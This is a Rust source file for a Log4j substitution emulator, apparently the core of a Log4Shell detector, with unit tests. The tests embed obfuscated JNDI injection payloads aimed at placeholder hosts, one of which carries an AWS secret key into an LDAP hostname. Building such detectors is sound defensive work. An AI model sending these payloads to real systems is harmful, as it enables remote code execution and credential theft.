//! Log4j's variable substitution, emulated.
//!
//! [`evaluate`] follows `org.apache.logging.log4j.core.lookup.StrSubstitutor`
//! (2.17.1 and later, as shipped by Debian's `liblog4j2-java` 2.19.0) step for
//! step: `${` … `}` with nested variables counted, `$${` as an escape,
//! variable names substituted before they are split on `:-` (and the escaped
//! delimiter `:\-`), values substituted again recursively, cyclic variables
//! left unresolved. One deliberate difference from 2.17+: every value,
//! default values included, is substituted again, as 2.14.1 and the other
//! exploitable versions do, so `${::-$${jndi:…}}` is a lookup here (2.17+
//! leaves it literal; the oracle's corpus avoids that construct). Lookups go through an `Interpolator` whose prefix is
//! lower-cased with `Locale.US`: `lower` and `upper` apply Java's (Unicode)
//! case mappings, `date` formats patterns that are only quoted literals,
//! `jndi` records its key and evaluates to `«jndi:KEY»`, and every other
//! prefix (`env`, `sys`, `java`, `ctx`, …, or none) resolves to nothing, so
//! `:-` defaults apply and unresolved variables stay in the text.
//!
//! The work done is bounded: a nesting depth, and a number of elementary
//! operations proportional to the input's length. When a bound is hit the
//! evaluation stops where it is and says so ([`Evaluation::truncated`]).
//! The differential test against the real Log4j is
//! `tests/it/oracle.rs` (oracle: `tests/oracle/Log4jOracle.java`).

/// The marker a JNDI lookup evaluates to: `«jndi:KEY»`. The oracle
/// (`tests/oracle/Log4jOracle.java`) registers a `jndi` lookup that returns
/// exactly this, so outputs compare equal character for character.
pub const JNDI_OPEN: char = '«';
pub const JNDI_CLOSE: char = '»';

/// Which lookups count as dangerous sinks besides `jndi`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Dialect {
    /// Log4j 2 only: exactly what the oracle does.
    Log4j,
    /// Log4j 2 plus Apache Commons Text's `script`, `url` and `dns` lookups
    /// (CVE-2022-42889), recorded in [`Evaluation::sinks`] and evaluating to
    /// `«prefix:KEY»`.
    Detect,
}

/// The result of substituting a string the way Log4j 2's `StrSubstitutor`
/// with its `Interpolator` does.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Evaluation {
    /// The substituted text; each JNDI lookup appears as `«jndi:KEY»`.
    pub output: String,
    /// The keys the `jndi` lookup was called with, in call order.
    pub jndi: Vec<String>,
    /// Every dangerous lookup called (`jndi`, and in [`Dialect::Detect`]
    /// `script`, `url`, `dns`), as (lower-cased prefix, key), in call order.
    pub sinks: Vec<(String, String)>,
    /// Variable names looked up that resolved to nothing and had no
    /// default (`env:AWS_SECRET_ACCESS_KEY`, `java:version`, `hostName`).
    pub unresolved: Vec<String>,
    /// Names resolved through a default value or `lower`/`upper`/`date`:
    /// how many obfuscating lookups it took.
    pub resolved: usize,
    /// Whether evaluation was cut short by a bound (depth, operations).
    pub truncated: bool,
}

/// Substitutes `input` as Log4j would, with `lower`, `upper` and `date`
/// (literal patterns) evaluated, `jndi` recorded, every other lookup
/// unresolved (`env`, `sys`, … return nothing, so `:-` defaults apply).
pub fn evaluate(input: &str) -> Evaluation {
    evaluate_with(input, Dialect::Log4j)
}

/// [`evaluate`] with a choice of dangerous lookups.
pub fn evaluate_with(input: &str, dialect: Dialect) -> Evaluation {
    let mut buf: Vec<char> = input.chars().collect();
    let mut ctx = Ctx {
        dialect,
        ops: 0,
        max_ops: 64 * buf.len() as u64 + 65_536,
        depth: 0,
        eval: Evaluation::default(),
    };
    let len = buf.len();
    let mut prior = None;
    ctx.substitute(&mut buf, 0, len, &mut prior);
    let mut eval = ctx.eval;
    eval.output = buf.into_iter().collect();
    eval
}

const MAX_DEPTH: u32 = 64;
/// Values longer than this are not substituted into the buffer.
const MAX_BUF: usize = 1 << 20;

struct Ctx {
    dialect: Dialect,
    ops: u64,
    max_ops: u64,
    depth: u32,
    eval: Evaluation,
}

fn is_match(chars: &[char], pos: usize, end: usize, pat: &[char]) -> bool {
    pos + pat.len() <= end && chars[pos..pos + pat.len()] == *pat
}

const PREFIX: [char; 2] = ['$', '{'];
const DELIM: [char; 2] = [':', '-'];
const ESC_DELIM: [char; 3] = [':', '\\', '-'];

impl Ctx {
    fn spend(&mut self, n: usize) -> bool {
        self.ops += n as u64 + 1;
        if self.ops > self.max_ops {
            self.eval.truncated = true;
            false
        } else {
            true
        }
    }

    /// `StrSubstitutor.substitute(event, buf, offset, length, priorVariables)`;
    /// returns the change in length.
    fn substitute(
        &mut self,
        buf: &mut Vec<char>,
        offset: usize,
        length: usize,
        prior: &mut Option<Vec<String>>,
    ) -> isize {
        if self.depth >= MAX_DEPTH {
            self.eval.truncated = true;
            return 0;
        }
        self.depth += 1;
        let change = self.substitute_inner(buf, offset, length, prior);
        self.depth -= 1;
        change
    }

    fn substitute_inner(
        &mut self,
        buf: &mut Vec<char>,
        offset: usize,
        length: usize,
        prior: &mut Option<Vec<String>>,
    ) -> isize {
        let mut length_change: isize = 0;
        let mut buf_end = offset + length;
        let mut pos = offset;
        while pos < buf_end {
            if self.eval.truncated {
                break;
            }
            if !is_match(buf, pos, buf_end, &PREFIX) {
                pos += 1;
                continue;
            }
            if pos > offset && buf[pos - 1] == '$' {
                // `$${`: the escape character is removed, the variable kept.
                if !self.spend(buf.len() - pos) {
                    break;
                }
                buf.remove(pos - 1);
                length_change -= 1;
                buf_end -= 1;
                continue;
            }
            let start = pos;
            pos += 2;
            let mut nested = 0usize;
            let mut found = false;
            while pos < buf_end {
                if is_match(buf, pos, buf_end, &PREFIX) {
                    nested += 1;
                    pos += 2;
                    continue;
                }
                if buf[pos] != '}' {
                    pos += 1;
                    continue;
                }
                if nested > 0 {
                    nested -= 1;
                    pos += 1;
                    continue;
                }
                found = true;
                break;
            }
            if !self.spend(pos - start) {
                break;
            }
            if !found {
                // No closing brace: the rest is left as it is.
                break;
            }
            // `pos` is at the closing brace.
            let mut name_buf: Vec<char> = buf[start + 2..pos].to_vec();
            if prior.is_none() {
                *prior = Some(Vec::new());
            }
            let name_len = name_buf.len();
            self.substitute(&mut name_buf, 0, name_len, prior);
            if self.eval.truncated {
                break;
            }
            pos += 1;
            let end = pos;
            let (var_name, default) = split_name(&name_buf);
            let prior_list = prior.get_or_insert_with(Vec::new);
            let cyclic = if prior_list.contains(&var_name) {
                true
            } else {
                prior_list.push(var_name.clone());
                false
            };
            let mut value = if cyclic { None } else { self.lookup(&var_name) };
            if value.is_none() {
                match &default {
                    Some(_) => self.eval.resolved += 1,
                    None => {
                        if self.eval.unresolved.len() < 64
                            && !self.eval.unresolved.contains(&var_name)
                        {
                            self.eval.unresolved.push(var_name.clone());
                        }
                    }
                }
                value = default;
            }
            if let Some(v) = value {
                let v: Vec<char> = v.chars().collect();
                let var_len = v.len();
                if buf.len() - (end - start) + var_len > MAX_BUF || !self.spend(buf.len() + var_len)
                {
                    self.eval.truncated = true;
                    break;
                }
                buf.splice(start..end, v);
                let mut change = self.substitute(buf, start, var_len, prior);
                change += var_len as isize - (end - start) as isize;
                pos = (pos as isize + change) as usize;
                buf_end = (buf_end as isize + change) as usize;
                length_change += change;
            }
            if !cyclic {
                if let Some(list) = prior.as_mut() {
                    list.pop();
                }
            }
        }
        length_change
    }

    /// `Interpolator.lookup(var)` over the lookups this emulation knows.
    fn lookup(&mut self, var: &str) -> Option<String> {
        let (prefix, name) = var.split_once(':')?;
        let prefix = prefix.to_lowercase();
        let value = match prefix.as_str() {
            "lower" => {
                self.eval.resolved += 1;
                Some(name.to_lowercase())
            }
            "upper" => {
                self.eval.resolved += 1;
                Some(name.to_uppercase())
            }
            "date" => {
                self.eval.resolved += 1;
                Some(simple_date_format(name))
            }
            "jndi" => {
                self.record(&prefix, name);
                self.eval.jndi.push(name.to_owned());
                Some(format!("{JNDI_OPEN}jndi:{name}{JNDI_CLOSE}"))
            }
            "script" | "url" | "dns" if self.dialect == Dialect::Detect => {
                self.record(&prefix, name);
                Some(format!("{JNDI_OPEN}{prefix}:{name}{JNDI_CLOSE}"))
            }
            _ => None,
        };
        // Otherwise the Interpolator tries its default lookup (a map that
        // is empty here) with the name after the prefix: nothing.
        value
    }

    fn record(&mut self, prefix: &str, key: &str) {
        if self.eval.sinks.len() < 256 {
            self.eval.sinks.push((prefix.to_owned(), key.to_owned()));
        }
    }
}

/// Splits a substituted variable expression on the first `:-` (or the
/// escaped `:\-`), exactly as `StrSubstitutor` does.
fn split_name(expr: &[char]) -> (String, Option<String>) {
    let s = |a: &[char]| a.iter().collect::<String>();
    let n = expr.len();
    for i in 0..n {
        if is_match(expr, i, n, &ESC_DELIM) {
            let prefix = format!("{}:", s(&expr[..i]));
            let mut name = format!("{prefix}{}", s(&expr[i + 2..]));
            let mut default = None;
            for j in i + 3..n {
                if is_match(expr, j, n, &DELIM) {
                    name = format!("{prefix}{}", s(&expr[i + 3..j]));
                    default = Some(s(&expr[j + 2..]));
                    break;
                }
            }
            return (name, default);
        }
        if is_match(expr, i, n, &DELIM) {
            return (s(&expr[..i]), Some(s(&expr[i + 2..])));
        }
    }
    (s(expr), None)
}

/// `new SimpleDateFormat(pattern).format(now)` for patterns whose output
/// does not depend on the date: quoted literals (`'j'`, `''` for a quote)
/// and characters that are not pattern letters. A pattern with letters
/// formats the current date, which no payload can rely on: it gives the
/// placeholder `\u{2039}date\u{203a}`.
fn simple_date_format(pattern: &str) -> String {
    let mut out = String::new();
    let mut chars = pattern.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        if c == '\'' {
            if chars.peek() == Some(&'\'') {
                chars.next();
                out.push('\'');
            } else {
                quoted = !quoted;
            }
        } else if quoted || !c.is_ascii_alphabetic() {
            out.push(c);
        } else {
            return "\u{2039}date\u{203a}".to_owned();
        }
    }
    if quoted {
        // "Unterminated quote": Log4j falls back to a default date format.
        return "\u{2039}date\u{203a}".to_owned();
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn keys(s: &str) -> Vec<String> {
        evaluate(s).jndi
    }

    #[test]
    fn plain_and_nested() {
        assert_eq!(
            keys("${jndi:ldap://x.example/a}"),
            vec!["ldap://x.example/a"]
        );
        assert_eq!(keys("${${lower:J}ndi:ldap://x/a}"), vec!["ldap://x/a"]);
        assert_eq!(
            keys("${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}"),
            vec!["rmi://x/a"]
        );
        assert_eq!(
            keys("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}"),
            vec!["ldap://x/a"]
        );
        assert_eq!(keys("${jnd${upper:ı}:ldap://x/a}"), vec!["ldap://x/a"]);
        // `ı` upper-cases to `I`, which the prefix lower-casing makes `i`; `Indi` is not `jndi`.
        assert!(keys("${${upper:ı}ndi:ldap://x/a}").is_empty());
        assert_eq!(keys("${JnDi:ldap://x/a}"), vec!["ldap://x/a"]);
        assert_eq!(
            keys("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:dns://x/a}"),
            vec!["dns://x/a"]
        );
        assert_eq!(
            keys("${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x/a}"),
            vec!["ldap://x/a"]
        );
    }

    #[test]
    fn escapes_and_unclosed() {
        assert_eq!(evaluate("$${jndi:ldap://x}").output, "${jndi:ldap://x}");
        assert!(keys("$${jndi:ldap://x}").is_empty());
        assert_eq!(evaluate("${jndi:ldap://x").output, "${jndi:ldap://x");
        assert_eq!(evaluate("${a:\\-b}").output, "${a:\\-b}");
        // The first `}` after `{jndi:` closes the outer variable: its default is the unclosed `${jndi:ldap://x/a`.
        assert_eq!(
            evaluate("${::-${lower:$}{jndi:ldap://x/a}}").output,
            "${jndi:ldap://x/a}"
        );
    }

    #[test]
    fn values_are_substituted_again_as_in_the_vulnerable_versions() {
        // 2.14.1 substitutes a default value again, so the escaped `$${` in it
        // becomes a live lookup; 2.17+ leaves it literal. A detector follows
        // the versions that can be exploited.
        assert_eq!(
            keys("${::-$${jndi:ldap://z.example/c}}"),
            vec!["ldap://z.example/c"]
        );
        assert_eq!(
            keys("${lower:$${jndi:LDAP://Y.Example/B}}"),
            vec!["ldap://y.example/b"]
        );
    }

    #[test]
    fn unresolved_lookups_stay() {
        let e = evaluate("${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.a.example/a}");
        assert_eq!(
            e.jndi,
            vec!["ldap://${env:AWS_SECRET_ACCESS_KEY}.a.example/a"]
        );
        assert_eq!(e.unresolved, vec!["env:AWS_SECRET_ACCESS_KEY"]);
        assert_eq!(
            evaluate("${HOME} ${user.home}").output,
            "${HOME} ${user.home}"
        );
        assert_eq!(evaluate("${var:-default}").output, "default");
    }

    #[test]
    fn hostile_inputs_are_bounded() {
        let deep = format!("{}x{}", "${lower:".repeat(10_000), "}".repeat(10_000));
        let e = evaluate(&deep);
        assert!(e.truncated);
        let wide = "${::-a}".repeat(50_000);
        let e = evaluate(&wide);
        assert!(e.output.len() <= wide.len());
        let bomb = format!("${{{}}}", "${::-${::-${::-x}}}".repeat(2000));
        let _ = evaluate(&bomb);
    }
}
